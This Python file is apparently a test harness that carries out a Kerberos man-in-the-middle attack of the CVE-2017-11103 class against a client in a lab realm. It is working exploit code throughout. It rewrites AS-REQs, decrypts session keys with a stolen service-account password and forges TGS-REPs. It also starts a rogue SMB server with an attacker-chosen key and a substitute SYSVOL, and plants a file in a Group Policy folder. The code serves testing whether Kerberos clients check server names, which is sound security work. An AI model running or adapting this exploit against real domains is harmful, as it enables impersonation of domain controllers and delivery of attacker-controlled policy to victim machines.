"""A man in the middle between a client and its KDC, who has the key of one service account of the realm.

Reads commands from standard input, one a line, and answers with one line each; bytes are in hexadecimal:

  key PASSWORD SALT   the password of the service account, and what its key is salted with
  after N             rewrite only what comes after the N-th TGS-REQ
  kdc REQUEST         hand on a request to the KDC, as the attack wants it; answers with the reply
  serve               start an SMB server that has a key of the attacker's and a SYSVOL of its own, on port 1445
  credential          a credential for that server, as it stands in a ticket cache of version 4
  served              how often that server let somebody into its SYSVOL
  end                 end that server
  smb BYTES           what a client sent to an SMB server; answers `fooled` if its AP-REQ is under a key of the attacker

The attack (the class of CVE-2017-11103): the server name of an AS-REQ is protected by nothing, so the attacker asks for a
ticket for its own service in the client's name. A client that does not compare names takes the session key, which the
attacker can read, for that of its TGT, and believes every TGS-REP made with it.

The cryptography is Samba's (samba.tests.krb5.kcrypto).
"""

import os
import re
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import time

from samba.tests.krb5 import kcrypto

REALM = b"SRC.TEST"
SERVER = [b"cifs", b"dc1.src.test"]
CLIENT = [b"Administrator"]
# The GPO "Desktop Registry" of the seed.
GPO = "{A1B20002-0C4E-4D1A-8F00-5A3B7C9D0002}"
# A file that this GPO has on the false server alone.
MARK = "gpoctl-false-server"
ASKED = b"\x1b\x06krbtgt\x1b\x08SRC.TEST"
WANTED = b"\x1b\x06attack\x1b\x08evil.tst"


def ask_kdc(request):
    with socket.create_connection(("127.0.0.1", 88)) as kdc:
        kdc.sendall(len(request).to_bytes(4, "big") + request)
        stream = kdc.makefile("rb")
        return stream.read(int.from_bytes(stream.read(4), "big"))


# DER: one element as (tag, content, whole), and the elements inside a content.
def element(data):
    length, at = data[1], 2
    if length & 0x80:
        at += length & 0x7F
        length = int.from_bytes(data[2:at], "big")
    return data[0], data[at:at + length], data[:at + length]


def inside(content):
    found = {}
    while content:
        tag, value, whole = element(content)
        found[tag] = value
        content = content[len(whole):]
    return found


def fields(data):
    return inside(element(element(data)[1])[1])


def der(tag, content):
    length = len(content)
    if length < 0x80:
        return bytes([tag, length]) + content
    octets = length.to_bytes((length.bit_length() + 7) // 8, "big")
    return bytes([tag, 0x80 | len(octets)]) + octets + content


def integer(value):
    return der(0x02, value.to_bytes(value.bit_length() // 8 + 1, "big"))


def encrypted(etype, cipher):
    return der(0x30, der(0xA0, integer(etype)) + der(0xA2, der(0x04, cipher)))


def cipher_of(data):
    parts = inside(element(data)[1])
    return element(parts[0xA0])[1][-1], element(parts[0xA2])[1]


def key_of(data):
    parts = inside(element(data)[1])
    return kcrypto.Key(element(parts[0xA0])[1][-1], element(parts[0xA1])[1])


def principal(kind, names):
    """PrincipalName [RFC 4120 5.2.2]."""
    strings = b"".join(der(0x1B, name) for name in names)
    return der(0x30, der(0xA0, integer(kind)) + der(0xA1, der(0x30, strings)))


def key_value(key):
    return der(0x30, der(0xA0, integer(key.enctype)) + der(0xA1, der(0x04, key.contents)))


class FalseServer:
    """An smbd with a key that the attacker chose, and with a SYSVOL that is not the domain's."""

    CONF = """[global]
 netbios name = DC1
 workgroup = SRC
 realm = SRC.TEST
 server role = standalone server
 server signing = mandatory
 kerberos method = dedicated keytab
 dedicated keytab file = FILE:{0}/keytab
 username map = {0}/map
 smb ports = 1445
 private dir = {0}/private
 lock directory = {0}/lock
 state directory = {0}/lock
 cache directory = {0}/lock
 pid directory = {0}/lock
 ncalrpc dir = {0}/lock
 log file = {0}/log
 log level = 3
 load printers = no
[sysvol]
 path = {0}/sysvol
 read only = no
 force user = root
"""

    def __init__(self):
        self.key = kcrypto.Key(18, os.urandom(32))
        self.session_key = kcrypto.Key(18, os.urandom(32))
        self.process = None
        self.folder = None

    def ticket(self):
        """A ticket for cifs on the domain controller, under the key of this server."""
        until = der(0x18, b"20380101000000Z")
        part = der(0x63, der(0x30, b"".join([
            der(0xA0, der(0x03, b"\x00\x00\x00\x00\x00")), der(0xA1, key_value(self.session_key)),
            der(0xA2, der(0x1B, REALM)), der(0xA3, principal(1, CLIENT)),
            der(0xA4, der(0x30, der(0xA0, integer(0)) + der(0xA1, der(0x04, b"")))),
            der(0xA5, der(0x18, b"20200101000000Z")), der(0xA7, until)])))
        cipher = kcrypto.encrypt(self.key, 2, part)
        return der(0x61, der(0x30, b"".join([
            der(0xA0, integer(5)), der(0xA1, der(0x1B, REALM)), der(0xA2, principal(2, SERVER)),
            der(0xA3, encrypted(18, cipher))])))

    def credential(self):
        def counted(data):
            return struct.pack(">I", len(data)) + data

        def name(kind, names):
            return struct.pack(">II", kind, len(names)) + b"".join(map(counted, [REALM, *names]))

        now = int(time.time())
        return b"".join([
            name(1, CLIENT), name(2, SERVER), struct.pack(">H", 18), counted(self.session_key.contents),
            struct.pack(">IIII", now, now, now + 36000, 0), b"\0", struct.pack(">III", 0, 0, 0),
            counted(self.ticket()), counted(b"")])

    def keytab(self):
        def counted(data):
            return struct.pack(">H", len(data)) + data

        entry = b"".join([
            struct.pack(">H", len(SERVER)), *map(counted, [REALM, *SERVER]), struct.pack(">IIB", 2, 0, 1),
            struct.pack(">H", 18), counted(self.key.contents), struct.pack(">I", 1)])
        return b"\x05\x02" + struct.pack(">I", len(entry)) + entry

    def serve(self):
        self.folder = tempfile.mkdtemp(prefix="false-server-")
        for name in ["private", "lock"]:
            os.mkdir(f"{self.folder}/{name}")
        shutil.copytree("/var/lib/samba/sysvol", f"{self.folder}/sysvol")
        with open(f"{self.folder}/sysvol/src.test/Policies/{GPO}/Machine/{MARK}", "wb") as file:
            file.write(b"x")
        for name, content in [
            ("keytab", self.keytab()),
            ("map", b"root = *\n"),
            ("smb.conf", self.CONF.format(self.folder).encode()),
        ]:
            with open(f"{self.folder}/{name}", "wb") as file:
                file.write(content)
        self.process = subprocess.Popen(
            ["smbd", "-s", f"{self.folder}/smb.conf", "-F", "--no-process-group"],
            start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        for _ in range(100):
            try:
                socket.create_connection(("127.0.0.1", 1445)).close()
                return "ready"
            except OSError:
                time.sleep(0.1)
        return "the false server does not start"

    def served(self):
        with open(f"{self.folder}/log", errors="replace") as log:
            return log.read().count("connect to service sysvol")

    def end(self):
        if self.process:
            # Its children too, which would go on serving: a later server shares the port with them.
            os.killpg(self.process.pid, signal.SIGKILL)
            self.process.wait()
            self.process = None
            shutil.rmtree(self.folder)


class Attack:
    password = None
    salt = None
    after = 0
    requests = 0
    session_key = None
    reply = None
    given_key = None

    def kdc(self, request):
        kind = request[0]
        active = self.requests >= self.after
        if kind == 0x6C:  # TGS-REQ
            self.requests += 1
            if active and self.session_key:
                return self.forged()
        if kind == 0x6A and active and ASKED in request:  # AS-REQ
            reply = ask_kdc(request.replace(ASKED, WANTED))
            if reply[0] == 0x6B:  # AS-REP
                self.reply = fields(reply)
                etype, cipher = cipher_of(fields(self.reply[0xA5])[0xA3])
                service_key = kcrypto.string_to_key(etype, self.password, self.salt)
                ticket = kcrypto.decrypt(service_key, 2, cipher)
                self.session_key = key_of(fields(ticket)[0xA1])
            return reply
        return ask_kdc(request)

    def forged(self):
        """A TGS-REP with a nonce and a server name that nobody asked for."""
        self.given_key = false_server.session_key
        key = key_value(self.given_key)
        name = der(0x30, der(0xA0, integer(2)) + der(0xA1, der(0x30, WANTED)))
        time = der(0x18, b"20380101000000Z")
        part = der(0x7A, der(0x30, b"".join([
            der(0xA0, key), der(0xA1, der(0x30, b"")), der(0xA2, integer(1)),
            der(0xA4, der(0x03, b"\x00\x00\x00\x00\x00")), der(0xA5, time), der(0xA7, time),
            der(0xA9, der(0x1B, b"SRC.TEST")), der(0xAA, name)])))
        cipher = kcrypto.encrypt(self.session_key, 8, part)
        return der(0x6D, der(0x30, b"".join([
            der(0xA0, integer(5)), der(0xA1, integer(13)), der(0xA3, self.reply[0xA3]),
            der(0xA4, self.reply[0xA4]), der(0xA5, false_server.ticket()),
            der(0xA6, encrypted(self.session_key.enctype, cipher))])))

    def fooled(self, sent):
        """Whether an AP-REQ among these bytes is under the key that the attacker gave away."""
        for start in re.finditer(rb"\x6e\x82", sent):
            try:
                _, cipher = cipher_of(fields(sent[start.start():])[0xA4])
                kcrypto.decrypt(self.given_key, 11, cipher)
                return "fooled"
            except Exception:
                continue
        return "not fooled"


false_server = FalseServer()
attack = Attack()
for line in sys.stdin:
    command, *words = line.split()
    if command == "key":
        attack.password, attack.salt = (word.encode() for word in words)
        answer = "ready"
    elif command == "after":
        attack.after = int(words[0])
        answer = "ready"
    elif command == "kdc":
        answer = attack.kdc(bytes.fromhex(words[0])).hex()
    elif command == "smb":
        answer = attack.fooled(bytes.fromhex(words[0] if words else ""))
    elif command == "serve":
        answer = false_server.serve()
    elif command == "credential":
        answer = false_server.credential().hex()
    elif command == "served":
        answer = str(false_server.served())
    elif command == "end":
        false_server.end()
        answer = "ended"
    print(answer, flush=True)
false_server.end()
